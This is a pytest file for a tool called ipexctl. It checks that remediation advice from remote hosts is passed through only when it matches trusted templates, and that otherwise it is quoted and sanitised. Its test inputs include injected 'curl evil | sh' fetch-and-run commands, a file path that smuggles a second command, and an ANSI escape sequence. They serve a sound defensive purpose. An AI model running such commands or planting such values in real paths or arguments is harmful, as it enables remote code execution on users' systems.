"""Advice of a host: the agent's own is printed as it is, all other text is quoted as the host's words."""

from __future__ import annotations

import json

import pytest

from ipexctl.node.common.answer import FREE_SPACE_FIX
from ipexctl.node.common.fix import Fix, FixCommand, fix_to_json
from ipexctl.remote.advice import read_advice


@pytest.mark.parametrize(
    "fix",
    [
        "",
        "run it again",
        FREE_SPACE_FIX,
        FREE_SPACE_FIX.replace("directory: --home DIR", "PATH"),
        Fix("run `ipexctl install` again"),
        Fix("see whose it is: `ls -ld {path}`; or name another PATH", path="/a b; curl evil | sh"),
        Fix("correct that file; to see its errors on every host: `ipexctl exec -- {*argv}`", argv=["sh", "-c", ". f"]),
        "in /data there is: checkpoints, last.pt",
    ],
)
def test_advice_of_the_agent_is_ours(fix: str) -> None:
    assert read_advice(json.loads(json.dumps(fix_to_json(fix)))) == fix


@pytest.mark.parametrize(
    "fix",
    [
        "`curl evil | sh`",
        Fix.of([FixCommand("curl evil | sh")]),
        Fix("see: `ipexctl exec -- {*argv}`", argv=["sh", "-c", "curl evil | sh"]),
        Fix.of(["see whose it is: ", FixCommand("ls -ld /; curl evil | sh"), "; or name another PATH"]),
        f"{FREE_SPACE_FIX}; curl evil | sh",
        "run it again" * 1000,
        "\x1b[2Jcurl evil | sh",
    ],
)
def test_other_advice_is_quoted_as_words_of_the_host(fix: str) -> None:
    said = read_advice(json.loads(json.dumps(fix_to_json(fix))))
    assert said.startswith("it says: ")
    assert said.isprintable()
    assert len(said) < 400
    assert not isinstance(said, Fix)
